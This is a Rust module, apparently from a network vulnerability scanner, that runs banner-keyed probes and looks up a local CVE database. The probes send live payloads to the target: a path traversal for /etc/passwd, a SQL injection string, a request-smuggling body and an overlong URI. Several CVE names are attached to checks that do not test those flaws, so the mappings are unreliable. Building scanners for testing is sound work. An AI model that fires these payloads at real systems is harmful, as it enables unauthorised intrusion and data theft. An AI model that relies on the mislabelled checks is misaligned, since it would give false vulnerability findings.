// File: probes.rs
// SPDX-License-Identifier: MIT OR Apache-2.0
//
// Copyright (c) 2025
// - Volker Schwaberow <volker@schwaberow.de>

//! Known-vulnerability probes keyed by service banner, and the local CVE
//! database lookup.

use crate::error::TransportError;
use crate::rawhttp::{send_raw_request_to_close, RawHttpResponse};
use futures::future::BoxFuture;
use log::{debug, info, warn};
use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::path::Path;
use std::time::Duration;

pub type ProbeFuture<'a> = BoxFuture<'a, Result<bool, TransportError>>;
pub type ProbeFn = for<'a> fn(&'a ProbeTarget) -> ProbeFuture<'a>;

static NGINX_1_8: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)nginx\D*1\.8(?:\D|$)").unwrap());
static NGINX_1_18: Lazy<Regex> = Lazy::new(|| Regex::new(r"(?i)nginx\D*1\.18(?:\D|$)").unwrap());
static VERSION: Lazy<Regex> = Lazy::new(|| Regex::new(r"\d+(?:\.\d+)+").unwrap());

const SMUGGLED_BODY: &str = "0\r\n\r\nGET / HTTP/1.1\r\nHost: localhost\r\n\r\n";

pub struct Probe {
    pub name: &'static str,
    pub run: ProbeFn,
}

/// Probes that apply to every service whose banner satisfies `applies`.
pub struct ProbeGroup {
    pub label: &'static str,
    pub applies: fn(&str) -> bool,
    pub probes: &'static [Probe],
}

pub static PROBE_TABLE: &[ProbeGroup] = &[
    ProbeGroup {
        label: "path-traversal",
        applies: is_traversal_candidate,
        probes: &[Probe {
            name: "Path Traversal",
            run: path_traversal,
        }],
    },
    ProbeGroup {
        label: "generic",
        applies: any_service,
        probes: &[Probe {
            name: "SQL Injection",
            run: sql_injection,
        }],
    },
    ProbeGroup {
        label: "nginx-1.8",
        applies: is_nginx_1_8,
        probes: &[
            Probe {
                name: "HTTP request smuggling",
                run: request_smuggling,
            },
            Probe {
                name: "Buffer overflow",
                run: long_uri_overflow,
            },
            Probe {
                name: "CVE-2016-0747",
                run: cve_2016_0747,
            },
        ],
    },
    ProbeGroup {
        label: "nginx-1.18",
        applies: is_nginx_1_18,
        probes: &[
            Probe {
                name: "CVE-2021-23017",
                run: cve_2021_23017,
            },
            Probe {
                name: "CVE-2021-3618",
                run: cve_2021_3618,
            },
            Probe {
                name: "CVE-2020-12440",
                run: request_smuggling,
            },
        ],
    },
];

pub fn any_service(_service: &str) -> bool {
    true
}

pub fn is_traversal_candidate(service: &str) -> bool {
    service.to_lowercase().contains("apache") || is_nginx_1_8(service)
}

pub fn is_nginx_1_8(service: &str) -> bool {
    NGINX_1_8.is_match(service)
}

pub fn is_nginx_1_18(service: &str) -> bool {
    NGINX_1_18.is_match(service)
}

pub struct ProbeTarget {
    host: String,
    port: u16,
    timeout: Duration,
    client: reqwest::Client,
}

impl ProbeTarget {
    pub fn new(host: &str, port: u16, timeout: Duration) -> Result<Self, TransportError> {
        let client = reqwest::Client::builder()
            .redirect(reqwest::redirect::Policy::none())
            .timeout(timeout)
            .build()?;
        Ok(Self {
            host: host.to_string(),
            port,
            timeout,
            client,
        })
    }

    pub fn port(&self) -> u16 {
        self.port
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}:{}{}", self.host, self.port, path)
    }

    async fn get(&self, path: &str) -> Result<reqwest::Response, TransportError> {
        Ok(self.client.get(self.url(path)).send().await?)
    }

    /// Paths are sent unnormalised, which the URL-based client would not do.
    async fn raw(&self, head: &str, body: &str) -> Result<RawHttpResponse, TransportError> {
        let request = format!(
            "{}\r\nHost: {}\r\nConnection: close\r\n\r\n{}",
            head, self.host, body
        );
        send_raw_request_to_close(&self.host, self.port, request.as_bytes(), self.timeout).await
    }
}

fn path_traversal(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let response = target
            .raw("GET /icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1", "")
            .await?;
        Ok(response.body().contains("root:"))
    })
}

fn sql_injection(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let body = target
            .client
            .get(target.url("/search"))
            .query(&[("query", "1' OR '1'='1")])
            .send()
            .await?
            .text()
            .await?;
        Ok(body.contains("SQL") || body.contains("syntax"))
    })
}

/// A mitigated front end rejects a request carrying both framing headers.
fn request_smuggling(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let response = target
            .raw(
                "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 0",
                SMUGGLED_BODY,
            )
            .await?;
        Ok(response.status != 400)
    })
}

fn long_uri_overflow(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let path = format!("/{}", "A".repeat(10_000));
        Ok(target.get(&path).await?.status().as_u16() == 500)
    })
}

fn cve_2016_0747(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move { Ok(target.get("/").await?.status().as_u16() == 502) })
}

fn cve_2021_23017(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let response = target.raw("GET /../config.json HTTP/1.1", "").await?;
        Ok(response.status == 200 && response.body().contains("server_names"))
    })
}

/// Logs whether the port accepts an h2c upgrade and never reports a finding.
/// A `101` shows h2c is offered, not that the server is affected.
fn cve_2021_3618(target: &ProbeTarget) -> ProbeFuture<'_> {
    Box::pin(async move {
        let response = target
            .client
            .get(target.url("/"))
            .header("Connection", "Upgrade")
            .header("Upgrade", "h2c")
            .send()
            .await?;
        if response.status().as_u16() == 101 {
            info!("Port {} offers h2c upgrade, CVE-2021-3618 not confirmed", target.port);
        }
        Ok(false)
    })
}

/// Runs every applicable probe in table order. Probe failures are logged
/// and count as "not vulnerable".
pub async fn run_probes(table: &[ProbeGroup], target: &ProbeTarget, service: &str) -> Vec<String> {
    let mut found = Vec::new();

    for group in table.iter().filter(|g| (g.applies)(service)) {
        debug!("Running {} probes against port {}", group.label, target.port);
        for probe in group.probes {
            match (probe.run)(target).await {
                Ok(true) => {
                    info!("[+] Port {}: {} vulnerability found", target.port, probe.name);
                    found.push(probe.name.to_string());
                }
                Ok(false) => debug!("Port {}: {} not detected", target.port, probe.name),
                Err(e) => warn!(
                    "[!] Error running test '{}' on port {}: {}",
                    probe.name, target.port, e
                ),
            }
        }
    }
    found
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct CveRecord {
    #[serde(alias = "cve_id")]
    pub id: String,
    #[serde(default, alias = "summary")]
    pub description: String,
    #[serde(flatten)]
    pub extra: serde_json::Map<String, serde_json::Value>,
}

#[derive(Debug, Clone, Default)]
pub struct CveDatabase {
    records: Vec<CveRecord>,
}

impl CveDatabase {
    /// Accepts a bare array of records or an object of product → records.
    pub fn from_json(content: &str) -> Result<Self, serde_json::Error> {
        let value: serde_json::Value = serde_json::from_str(content)?;
        let records = match value {
            serde_json::Value::Array(items) => {
                serde_json::from_value(serde_json::Value::Array(items))?
            }
            serde_json::Value::Object(products) => {
                let mut records = Vec::new();
                for (_, entries) in products {
                    let mut batch: Vec<CveRecord> = serde_json::from_value(entries)?;
                    records.append(&mut batch);
                }
                records
            }
            _ => Vec::new(),
        };
        Ok(Self { records })
    }

    /// Missing or malformed files yield an empty database.
    pub async fn load<P: AsRef<Path>>(path: P) -> Self {
        let path = path.as_ref();
        let content = match tokio::fs::read_to_string(path).await {
            Ok(content) => content,
            Err(e) => {
                warn!("CVE database file {} not found: {}", path.display(), e);
                return Self::default();
            }
        };
        match Self::from_json(&content) {
            Ok(db) => {
                info!("Loaded {} CVE record(s) from {}", db.len(), path.display());
                db
            }
            Err(e) => {
                warn!("CVE database {} is not valid JSON: {}", path.display(), e);
                Self::default()
            }
        }
    }

    pub fn len(&self) -> usize {
        self.records.len()
    }

    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    pub fn filter_by_version(&self, version: &str) -> Vec<CveRecord> {
        let version = version.trim();
        if version.is_empty() {
            return Vec::new();
        }
        self.records
            .iter()
            .filter(|r| r.description.contains(version))
            .cloned()
            .collect()
    }

    pub fn lookup(&self, service: &str) -> Vec<CveRecord> {
        service_version(service)
            .map(|v| self.filter_by_version(v))
            .unwrap_or_default()
    }
}

/// `"nginx/1.18.0 (Ubuntu)"` → `"1.18.0"`.
pub fn service_version(service: &str) -> Option<&str> {
    VERSION.find(service).map(|m| m.as_str())
}
